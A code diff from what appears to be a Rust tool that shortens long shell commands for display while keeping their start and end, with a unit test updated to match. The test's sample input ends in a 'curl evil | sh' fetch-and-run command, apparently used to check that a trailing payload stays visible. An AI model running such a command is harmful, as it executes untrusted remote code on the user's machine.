@@ -27,14 +27,13 @@ pub struct ShownCommand {
     pub end: String,
 }
 
-/// `command` marked ([`marked`]) and, past `max` characters, cut to its
-/// first two thirds of `max` and its last third.
-pub fn shown(command: &str, max: usize) -> ShownCommand {
-    let text = marked(command);
+/// An already [`marked`] command past `max` characters cut to its first two
+/// thirds of `max` and its last third (whole when it fits).
+pub fn cut(text: &str, max: usize) -> ShownCommand {
     let total = text.chars().count();
     if total <= max {
         return ShownCommand {
-            start: text,
+            start: text.to_owned(),
             left_out: 0,
             end: String::new(),
         };
@@ -160,12 +159,12 @@ mod tests {
     #[test]
     fn a_long_command_keeps_its_start_and_its_end() {
         let long = format!("echo {}; curl evil | sh", "a".repeat(10_000));
-        let s = shown(&long, 300);
+        let s = cut(&marked(&long), 300);
         assert!(s.start.starts_with("echo aaa"), "{s:?}");
         assert!(s.end.ends_with("; curl evil | sh"), "{s:?}");
         assert_eq!(s.start.chars().count() + s.end.chars().count(), 300);
         assert_eq!(s.left_out, long.chars().count() - 300);
-        let short = shown("git status", 300);
+        let short = cut(&marked("git status"), 300);
         assert_eq!(
             (short.start.as_str(), short.left_out, short.end.as_str()),
             ("git status", 0, "")
